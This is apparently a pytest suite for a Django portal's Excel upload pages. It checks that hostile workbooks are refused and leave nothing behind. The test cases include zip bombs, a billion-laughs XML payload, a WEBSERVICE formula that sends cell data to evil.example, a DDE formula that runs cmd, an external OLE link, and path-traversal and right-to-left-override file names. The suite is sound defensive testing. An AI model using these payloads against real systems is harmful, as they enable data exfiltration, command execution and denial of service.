"""Hostile workbooks through the real pages: the liaison's upload (/reports/<id>/workbook/) and the
bureau's registry import (/pairings/import/). Each is refused with its reason shown in Chinese,
nothing is saved, and no file is left behind: every upload is spooled to a temporary directory of
the test's own (FILE_UPLOAD_MAX_MEMORY_SIZE=0), which must be empty after the request, and
MEDIA_ROOT must hold nothing. The bombs are built here from each page's own valid workbook
(tests/bombs.py); the real cost of the gigabyte bomb is measured by bench/upload_bomb.py."""

import io
import os
import re
import tracemalloc
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from django.conf import settings
from django.http import HttpResponse
from django.test import Client

from pairing.imports import template_workbook
from pairing.models import Area, Pairing, Programme, School
from reporting.models import IndicatorValue, MonthlyReport, ReportVersion
from reporting.services import report_save_draft
from tests import bombs
from tests.helpers import client_for
from tests.reporting.conftest import make_report

pytestmark = pytest.mark.django_db

BOUNDARY = "portal-upload-abuse-boundary"
IMPORT_SHEET = "签约结对关系安排表"
REPORT_SHEET = "月报"
UNZIPPED = "工作簿解压后超过50MB的上限。"
UNREADABLE = "无法读取该文件，请确认是Excel工作簿。"
NOT_XLSX = "请上传Excel工作簿（.xlsx）。"


def multipart(fields: dict[str, str], file_field: str, file_name: str, content: bytes) -> bytes:
    """A form post written by hand, so the file's name reaches Django exactly as a browser (or an
    attacker) sends it; the test client would take the base name first."""
    head = "".join(
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
        for name, value in fields.items()
    )
    head += (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{file_field}"; filename="{file_name}"\r\n'
        "Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet\r\n\r\n"
    )
    return head.encode() + content + f"\r\n--{BOUNDARY}--\r\n".encode()


@dataclass
class Page:
    """One upload page: its valid workbook, its form, and what must not change."""

    name: str
    client: Client
    url: str
    fields: dict[str, str]  # the form's other fields
    file_field: str
    sheet: str
    workbook: bytes
    value_cell: tuple[int, int]  # a cell the page reads as data
    state: Callable[[], object]

    def post_raw(self, content: bytes, file_name: str) -> HttpResponse:
        body = multipart(self.fields, self.file_field, file_name, content)
        return self.client.post(
            self.url,
            body,
            content_type=f"multipart/form-data; boundary={BOUNDARY}",
            follow=self.name == "report",  # the liaison's page redirects to the report with messages
        )

    def post(self, content: bytes, file_name: str) -> str:
        """The page shown after the upload."""
        response = self.post_raw(content, file_name)
        assert response.status_code in ((200,) if self.name == "report" else (200, 400))
        return response.content.decode()


def report_page(users) -> Page:
    liaison = users["liaison"]
    report = make_report(liaison)
    report_save_draft(report=report, user=liaison, values={"activities_held": "2"}, difficulties="旧")
    client = client_for(liaison)
    workbook = client.get(f"/reports/{report.pk}/workbook/").content
    book = openpyxl.load_workbook(io.BytesIO(workbook))
    row = next(cell.row for cell in book[REPORT_SHEET]["A"] if cell.value == "activities_held")

    def state():
        current = MonthlyReport.objects.get(pk=report.pk)
        return (
            current.version,
            current.status,
            current.difficulties,
            current.narratives,
            sorted(IndicatorValue.objects.filter(report=current).values_list("indicator__code", "value")),
            ReportVersion.objects.filter(report=current).count(),
            current.history.count(),
        )

    url = f"/reports/{report.pk}/workbook/"
    return Page("report", client, url, {}, "workbook", REPORT_SHEET, workbook, (row, 4), state)


def import_page(users) -> Page:
    client = client_for(users["bureau"])
    book = openpyxl.load_workbook(io.BytesIO(template_workbook(Programme.objects.get())))
    sheet = book[IMPORT_SHEET]
    sheet.delete_rows(2)  # the example line
    sheet.append([9, "石龙", "西湖村", "东莞理工学院", "东莞市信息技术学校"])  # a new pairing
    output = io.BytesIO()
    book.save(output)
    fields = {"programme": str(Programme.objects.get().pk)}

    def state():
        return (
            sorted(Pairing.objects.values_list("number", "town__name", "lead_university__name")),
            sorted(School.objects.values_list("name", flat=True)),
            Area.objects.count(),
            Pairing.history.count(),
            client.session.get("registry_import"),
        )

    return Page(
        "import", client, "/pairings/import/", fields, "file", IMPORT_SHEET, output.getvalue(), (2, 4), state
    )


@pytest.fixture(params=["report", "import"])
def upload_page(request, users, indicators) -> Page:
    return {"report": report_page, "import": import_page}[request.param](users)


@pytest.fixture
def upload_directory(settings, tmp_path) -> Path:
    """Every upload goes to disk (TemporaryUploadedFile), in a directory of the test's own."""
    directory = tmp_path / "uploads"
    directory.mkdir()
    settings.FILE_UPLOAD_TEMP_DIR = str(directory)
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 0
    return directory


def assert_nothing_left(upload_directory: Path) -> None:
    assert list(upload_directory.iterdir()) == [], "the upload's temporary file was removed"
    media = Path(settings.MEDIA_ROOT)
    assert not media.exists() or [p for p in media.rglob("*") if p.is_file()] == [], "nothing was stored"


def refused(
    page: Page, upload_directory: Path, content: bytes, message: str, name: str = "upload.xlsx"
) -> str:
    before = page.state()
    html = page.post(content, name)
    assert message in html, re.findall(r"alert[^<]*<[^<]*<[^<]*", html)
    assert page.state() == before, "nothing was saved"
    assert_nothing_left(upload_directory)
    return html


def with_part(page: Page, name: str, content: bytes) -> bytes:
    return bombs.with_parts(page.workbook, {name: content})


def edited_sheet(page: Page, edit: Callable[[bytes], bytes]) -> bytes:
    parts = bombs.parts_of(page.workbook)
    part = bombs.sheet_part(page.workbook, page.sheet)
    parts[part] = edit(parts[part])
    return bombs.write_zip(parts)


def with_formula(page: Page, formula: str) -> bytes:
    book = openpyxl.load_workbook(io.BytesIO(page.workbook))
    book[page.sheet].cell(*page.value_cell).value = formula
    output = io.BytesIO()
    book.save(output)
    return output.getvalue()


EXTERNAL_OBJECT = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"'
    b' Target="file://evil.example/share/book.xlsx" TargetMode="External"/></Relationships>'
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)

# name -> (the hostile workbook made from the page's own, the message the page shows)
CASES: dict[str, tuple[Callable[[Page], bytes], Callable[[Page], str]]] = {
    "one cell of 64 MB (unzipped size)": (
        lambda page: bombs.bomb(page.workbook, page.sheet, megabytes=64),
        lambda page: UNZIPPED,
    ),
    "one cell of 20 MB in 20 KB (compression ratio)": (
        lambda page: bombs.bomb(page.workbook, page.sheet, megabytes=20),
        lambda page: "工作簿的压缩比超过100:1的上限。",
    ),
    "104,000 small cells (cell count)": (
        lambda page: bombs.many_cells(page.workbook, page.sheet, rows=1300, columns=80),
        lambda page: "工作簿的单元格超过100000个的上限。",
    ),
    "20,001 rows (row count)": (
        lambda page: bombs.many_cells(page.workbook, page.sheet, rows=20001, columns=1),
        lambda page: f"{page.sheet}：工作表超过20000行的上限。",
    ),
    "a cell on the last row": (
        lambda page: bombs.with_rows(
            page.workbook, page.sheet, b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>'
        ),
        lambda page: f"{page.sheet}：工作表超过20000行的上限。",
    ),
    "a dimension as wide as Excel": (
        lambda page: edited_sheet(
            page, lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD9"', xml)
        ),
        lambda page: f"{page.sheet}：工作表超过100列的上限。",
    ),
    "3,000 parts": (
        lambda page: bombs.with_parts(page.workbook, {f"xl/media/image{n}.png": b"" for n in range(3000)}),
        lambda page: "工作簿的组成部分超过500个的上限。",
    ),
    "an external link part": (
        lambda page: with_part(page, "xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
        lambda page: "工作簿含有指向其他文件的外部链接，请删除这些链接后重新上传。",
    ),
    "an external object relationship": (
        lambda page: with_part(
            page,
            bombs.sheet_part(page.workbook, page.sheet).replace("worksheets/", "worksheets/_rels/") + ".rels",
            EXTERNAL_OBJECT,
        ),
        lambda page: "工作簿含有指向其他文件的外部链接，请删除这些链接后重新上传。",
    ),
    "a VBA project": (
        lambda page: with_part(page, "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
        lambda page: "工作簿含有宏或嵌入对象",
    ),
    "a document type with entities": (
        lambda page: edited_sheet(page, lambda xml: LAUGHS + xml.partition(b"?>")[2]),
        lambda page: UNREADABLE,
    ),
    "an attribute of 2 MB": (
        lambda page: bombs.with_rows(
            page.workbook,
            page.sheet,
            b'<row r="900"><c r="A900" s="' + os.urandom(1024 * 1024).hex().encode() + b'"/></row>',
        ),
        lambda page: UNREADABLE,
    ),
    "a part longer than its directory says": (
        lambda page: bombs.write_zip(
            bombs.parts_of(page.workbook), declared_sizes={bombs.sheet_part(page.workbook, page.sheet): 100}
        ),
        lambda page: UNREADABLE,
    ),
    "a cell of 40,000 characters": (
        lambda page: bombs.with_rows(
            page.workbook,
            page.sheet,
            b'<row r="900"><c r="C900" t="inlineStr"><is><t>' + b"X" * 40000 + b"</t></is></c></row>",
        ),
        lambda page: f"{page.sheet}!C900：单元格内容超过32767个字符的上限。",
    ),
    "a formula that calls a web service": (
        lambda page: with_formula(page, '=WEBSERVICE("http://evil.example/?"&B2)'),
        lambda page: f"{page.sheet}!D{page.value_cell[0]}：不允许使用公式，请直接填写数值。",
    ),
    "a DDE formula": (
        lambda page: with_formula(page, "=cmd|' /C calc'!A0"),
        lambda page: f"{page.sheet}!D{page.value_cell[0]}：不允许使用公式，请直接填写数值。",
    ),
    "an executable named .xlsx": (lambda page: b"MZ\x90\x00" + b"\x00" * 4096, lambda page: NOT_XLSX),
    "a PDF named .xlsx": (lambda page: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + b"0" * 4096, lambda page: NOT_XLSX),
    "a 5.5 MB file": (
        lambda page: b"PK\x03\x04" + os.urandom(5 * 1024 * 1024 + 512 * 1024),
        lambda page: "文件大小为5.5MB，超过5MB的上限。",
    ),
}


@pytest.mark.parametrize("case", list(CASES))
def test_a_hostile_workbook_is_refused_with_its_reason_and_nothing_is_kept(
    upload_page, upload_directory, case
):
    page = upload_page
    build, message = CASES[case]
    refused(page, upload_directory, build(page), message(page))


ODD_NAMES = {
    "a path up two folders": ("../../x.xlsx", "x.xlsx："),
    "a Windows path": ("..\\..\\x.xlsx", "x.xlsx："),
    "300 characters": ("a" * 300 + ".xlsx", "aaa…"),
    "a NUL": ("report\x00.xlsx", "report.xlsx："),
    "a right-to-left override": ("report\u202eslx.xlsx", "reportslx.xlsx："),
}


@pytest.mark.parametrize("case", list(ODD_NAMES))
def test_an_odd_file_name_changes_nothing_and_is_shown_cleaned(upload_page, upload_directory, case):
    page = upload_page
    name, shown = ODD_NAMES[case]
    html = refused(
        page, upload_directory, bombs.bomb(page.workbook, page.sheet, megabytes=64), UNZIPPED, name
    )
    assert shown in html
    assert "\x00" not in html and "\u202e" not in html and "../" not in html and "a" * 100 not in html


def test_a_name_longer_than_a_form_header_may_be_is_a_bad_request(upload_page, upload_directory):
    """Django reads a part's headers from its first kilobyte: 300 Chinese characters (900 bytes
    in UTF-8) push the end of the headers past it, and the whole request is refused."""
    page = upload_page
    before = page.state()
    response = page.post_raw(bombs.bomb(page.workbook, page.sheet, megabytes=64), "报" * 300 + ".xlsx")
    assert response.status_code == 400
    assert page.state() == before
    assert_nothing_left(upload_directory)


def test_an_executable_disguised_by_a_right_to_left_override_is_refused(upload_page, upload_directory):
    """A name "report<RLO>xslx.exe" shows as "reportexe.xlsx"; its real extension is .exe."""
    page = upload_page
    html = refused(page, upload_directory, page.workbook, NOT_XLSX, "report\u202exslx.exe")
    assert "\u202e" not in html


def test_a_gigabyte_bomb_is_refused_at_almost_no_cost_in_memory(upload_page, upload_directory):
    """The issue's file: ~1.2 MB that unzips to one 1.2 GB cell. Loosely: the request's peak of
    traced memory stays under 20 MB (bench/upload_bomb.py measures the process itself)."""
    page = upload_page
    content = bombs.bomb(page.workbook, page.sheet, megabytes=1200)
    assert len(content) < 1_400_000
    before = page.state()
    tracemalloc.start()
    try:
        html = page.post(content, "bomb.xlsx")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert UNZIPPED in html
    assert peak < 20 * 1024 * 1024, f"peak {peak / 1048576:.1f} MB"
    assert page.state() == before
    assert_nothing_left(upload_directory)


def test_the_limits_are_settings(upload_page, upload_directory, settings):
    page = upload_page
    settings.EXCEL_MAX_ROWS = 10
    html = refused(
        page, upload_directory, bombs.many_cells(page.workbook, page.sheet, rows=20, columns=1), ""
    )
    assert f"{page.sheet}：工作表超过10行的上限。" in html


def test_a_valid_workbook_spooled_to_disk_is_still_accepted_and_its_temporary_file_removed(
    upload_page, upload_directory
):
    page = upload_page
    book = openpyxl.load_workbook(io.BytesIO(page.workbook))
    if page.name == "report":
        text = book["文字"]
        row = next(cell.row for cell in text["A"] if cell.value == "difficulties")
        text.cell(row, 3).value = "道路改造资金不足，详见 https://portal.example/notes"
        text.cell(row, 3).hyperlink = "https://portal.example/notes"  # an external hyperlink is allowed
    output = io.BytesIO()
    book.save(output)
    html = page.post(output.getvalue(), "filled.xlsx")
    if page.name == "report":
        assert "工作簿已保存为草稿" in html
        assert MonthlyReport.objects.get(difficulties__startswith="道路改造资金不足")
    else:
        assert "导入预览" in html and "确认导入" in html
        assert page.state()[-1] is not None, "the preview waits in the session"
    assert_nothing_left(upload_directory)


def test_a_refused_upload_drops_an_earlier_preview(users, indicators, upload_directory):
    page = import_page(users)
    assert "确认导入" in page.post(page.workbook, "good.xlsx")
    token = page.state()[-1]["token"]
    assert NOT_XLSX in page.post(b"MZ", "bad.xlsx")
    response = page.client.post("/pairings/import/", {"confirm": "1", "token": token}, follow=True)
    assert "预览已失效，请重新上传文件。" in response.content.decode()
    assert not Pairing.objects.filter(town__name="石龙").exists()
    assert_nothing_left(upload_directory)


def excel_style_registry(town: str = "石龙") -> bytes:
    """A registry workbook as Excel writes one: text in the shared strings, not inline (openpyxl,
    which made the other workbooks here, writes it inline), and a hyperlink to a web page."""
    output = io.BytesIO()
    book = xlsxwriter.Workbook(output, {"in_memory": True})
    sheet = book.add_worksheet(IMPORT_SHEET)
    sheet.write_row(0, 0, ["序号", "镇(街道)", "村(社区)", "在莞高校", "中职学校"])
    sheet.write_row(1, 0, [9, town, "西湖村", "东莞理工学院", "东莞市信息技术学校"])  # a new pairing
    sheet.write_url(1, 6, "https://portal.example/registry")  # a hyperlink is not an external link
    book.close()
    return output.getvalue()


def test_a_workbook_with_shared_strings_is_read(users, upload_directory):
    page = import_page(users)
    html = page.post(excel_style_registry(), "excel.xlsx")
    assert "确认导入" in html and "石龙" in html
    assert_nothing_left(upload_directory)


def test_an_overlong_shared_string_is_named_by_the_cell_that_shows_it(users, upload_directory):
    page = import_page(users)
    parts = bombs.parts_of(excel_style_registry(town="长安"))
    parts["xl/sharedStrings.xml"] = parts["xl/sharedStrings.xml"].replace(
        "长安".encode(), ("长" * 40000).encode()
    )
    refused(
        page,
        upload_directory,
        bombs.write_zip(parts),
        f"{IMPORT_SHEET}!B2：单元格内容超过32767个字符的上限。",
    )
